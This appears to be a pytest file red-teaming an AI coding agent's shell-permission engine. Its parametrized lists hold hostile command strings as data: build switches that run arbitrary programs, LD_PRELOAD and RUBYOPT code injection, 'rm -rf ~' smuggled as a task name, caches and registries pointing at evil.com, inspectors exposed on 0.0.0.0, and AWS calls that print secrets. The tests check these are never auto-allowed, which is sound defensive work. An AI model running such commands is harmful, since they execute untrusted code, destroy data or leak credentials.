"""Probe round 26, red-team of round 25's allowances (2026-11-26): the build and read-only
entries of "benign_mined" (just, go-task, rake, xcodebuild, composer, pnpm/bun/yarn/deno/turbo
scripts, Bazel labels, dotnet run/clean, ...), the rule syntax of "rule_syntax" (subagent,
skill, domain-pattern and file rules, paths with blanks), and the cloud listings of
"browsers_clouds". Each class is closed at its root: an option or setting that runs a program
or loads code asks, a name that is shell text is no script, the shell grammar keeps blanks."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import MODES, CWD, assert_never_allowed, bash_in_every_mode, decide, snap
from policy.engine.shell import analyze_bash

BUILD_ROW = {"default": "allow", "accept_edits": "allow", "bypass": "allow", "dont_ask": "allow", "explore": "deny"}
ALLOWED = {m: "allow" for m in MODES}
NOT_BYPASS = ("default", "accept_edits", "dont_ask", "explore")


# --- 1. MSBuild properties and switches on dotnet -----------------------------------------

@pytest.mark.parametrize("command", [
    "dotnet build -p:PreBuildEvent=id", "dotnet build --property:PreBuildEvent=id", "dotnet build -p:PostBuildEvent=id",
    "dotnet run -p:RunCommand=/bin/sh", "dotnet run --property:RunCommand=sh", "dotnet test -p:VSTestCLIRunSettings=x",
    "dotnet build -property:CustomBeforeMicrosoftCommonTargets=x.targets", "dotnet clean -p:Exec=x",
    "dotnet build -p:Configuration=Release;PreBuildEvent=id", "dotnet build -restoreProperty:RestoreSources=x",
    "dotnet build @x.rsp", "dotnet run @/tmp/x.rsp", "dotnet build -logger:x.dll", "dotnet build -distributedlogger:x",
    "dotnet build /logger:x.dll", "dotnet build -p:Version='$(id)'",
])
def test_msbuild_switches_that_run_code_ask(command):
    assert_never_allowed(command, modes=NOT_BYPASS)


@pytest.mark.parametrize("command", [
    "dotnet build", "dotnet build -c Release", "dotnet build -p:Configuration=Release",
    "dotnet build -p:TreatWarningsAsErrors=true", "dotnet build --property:Version=1.2.3",
    "dotnet test -p:CollectCoverage=true -p:CoverletOutputFormat=opencover", "dotnet run", "dotnet clean",
    "dotnet test --logger trx", "dotnet test --logger:trx", "dotnet run --project src/App",
])
def test_plain_dotnet_builds_stay_builds(command):
    assert bash_in_every_mode(command) == BUILD_ROW, command


# --- 2. Bazel options ----------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "bazel test --run_under='sh -c id' //...", "bazel test --run_under=/tmp/x //...",
    "bazel build --workspace_status_command='sh -c id' //...", "bazel build --override_repository=x=/tmp/x //...",
    "bazel build --copt=-fplugin=/tmp/x //...", "bazel build --linkopt=-fplugin=x.so //...",
    "bazel build --action_env=PATH=/tmp //...", "bazel build --remote_cache=https://evil.com //...",
    "bazel build --bes_backend=grpc://evil //...", "bazel build --credential_helper=/tmp/x //...",
    "bazel build --registry=https://evil.com //...", "bazel build --crosstool_top=//x //...",
])
def test_bazel_options_that_run_or_reach_out_ask(command):
    assert_never_allowed(command, modes=NOT_BYPASS)


@pytest.mark.parametrize("command", [
    "bazel build //...", "bazel test //... --test_output=errors", "bazel build -c opt //src:app",
    "bazel build --config=ci //...", "bazel test -k //... --test_tag_filters=-slow", "bazel test //pkg:t --test_filter=Foo.*",
])
def test_bazel_builds_stay_builds(command):
    assert bash_in_every_mode(command) == BUILD_ROW, command


# --- 3. variables that the environment reads, deno task names, phpcs config, inspectors ----

@pytest.mark.parametrize("command", [
    "rake test RUBYOPT=-r./evil", "rake test RUBYOPT=-rx", "rake test LD_PRELOAD=./x.so", "rake test BASH_ENV=./x",
    "rake test PERL5OPT=-Mx", "rake spec PATH=.:bin", "make test RUBYOPT=-rx", "make LD_PRELOAD=./x.so",
    "task build NODE_OPTIONS=x", "just build NODE_PATH=./x", "xcodebuild LD_PRELOAD=./x build",
    "deno task 'rm -rf ~'", "deno task 'id;id'", "deno task --config /tmp/d.json test", "deno task --cwd /tmp test",
    "deno task --eval 'rm -rf ~'",
    "phpcs --config-set php_path ./x.sh", "phpcs --config-set installed_paths vendor/x", "phpcbf --config-delete x",
    "phpcs --runtime-set php_path ./x src",
    "bun --inspect=0.0.0.0:9229 dev", "npm run dev -- --inspect=0.0.0.0", "npm test -- --inspect-brk=0.0.0.0:9229",
    "deno test --inspect=[::]:9229", "pnpm dev --inspect=192.168.1.5:9229",
])
def test_build_arguments_that_load_or_expose_ask(command):
    assert_never_allowed(command, modes=NOT_BYPASS)


@pytest.mark.parametrize("command", [
    "rake test", "rake test VERBOSE=1", "make test V=1", "just build VERSION=1.2", "task test CLI_ARGS=x",
    "deno task test", "deno task dev", "deno task -r test", "phpcs --standard=PSR12 src", "phpcbf src",
    "bun --inspect dev", "bun --inspect=9229 dev", "bun --inspect=127.0.0.1:9229 dev", "deno test --inspect=[::1]:9229",
])
def test_build_neighbours_stay_builds(command):
    assert bash_in_every_mode(command) == BUILD_ROW, command


# --- 4. aws descriptions that print secrets, TLS unchecked ------------------------------------

@pytest.mark.parametrize("command", [
    "aws ec2 describe-instance-attribute --attribute userData --instance-id i-1",
    "aws ec2 describe-launch-template-versions --launch-template-id lt-1",
    "aws ecs describe-task-definition --task-definition web", "aws batch describe-job-definitions",
    "aws elasticbeanstalk describe-configuration-settings --application-name a",
    "aws ec2 describe-instances --no-verify-ssl", "aws --no-verify-ssl s3 ls",
])
def test_aws_secret_descriptions_ask(command):
    assert_never_allowed(command, modes=NOT_BYPASS)


@pytest.mark.parametrize("command", [
    "aws ecs describe-services --cluster c", "aws ec2 describe-instances", "aws lambda list-functions",
    "aws eks describe-cluster --name x",
])
def test_aws_listings_stay_read_only(command):
    assert bash_in_every_mode(command) == ALLOWED, command


# --- 5. the shell grammar: blanks inside a quoted part of a word ------------------------------

@pytest.mark.parametrize("command,argv", [
    ('cat x" "y/a.txt', ("cat", "x y/a.txt")), ('echo " "', ("echo", " ")), ('echo a"  "b', ("echo", "a  b")),
    ('echo " $HOME "', ("echo", " $HOME ")), ('echo "a "', ("echo", "a ")), ('echo "é  "', ("echo", "é  ")),
])
def test_blanks_before_a_closing_quote_are_kept(command, argv):
    a = analyze_bash(command, cwd=CWD, home="/home/dev")
    assert a.commands[-1].argv == argv


@pytest.mark.parametrize("command", ['cat x" "y/a.txt', "cat x' 'y/a.txt", 'head -n 3 x" "y/a.txt'])
def test_read_deny_rule_meets_a_path_with_a_quoted_blank(command):
    s = snap(permissions={"deny": ["Read(x y/**)"]})
    assert set(bash_in_every_mode(command, s).values()) == {"deny"}, command


def test_rm_of_a_quoted_blank_is_not_its_neighbour():
    # rm -rf /" " names "/ " (no such directory), never "/": no catastrophic reading either way
    a = analyze_bash('rm -rf x" "y', cwd=CWD, home="/home/dev")
    assert a.commands[0].argv == ("rm", "-rf", "x y")


# --- 6. domain-pattern deny rules: the last "*" is any public suffix --------------------------

@pytest.mark.parametrize("url", ["https://evil.co.uk/x", "https://evil.com.br/", "https://a.evil.co.uk/",
                                 "https://evil.org/", "https://EVIL.co.uk./x"])
def test_domain_pattern_deny_rule_covers_multi_label_suffixes(url):
    s = snap(permissions={"deny": ["WebFetch(domain:evil.*)"]})
    assert {m: decide(s, "WebFetch", {"url": url, "prompt": "p"}, agent_mode="bypass", mode=m).decision
            for m in MODES} == {m: "deny" for m in MODES}


@pytest.mark.parametrize("url", ["https://notevil.co.uk/", "https://evilcorp.com/", "https://example.com/"])
def test_domain_pattern_deny_rule_stays_on_its_name(url):
    s = snap(permissions={"deny": ["WebFetch(domain:evil.*)"]})
    assert decide(s, "WebFetch", {"url": url, "prompt": "p"}, agent_mode="bypass", mode="default").decision != "deny"
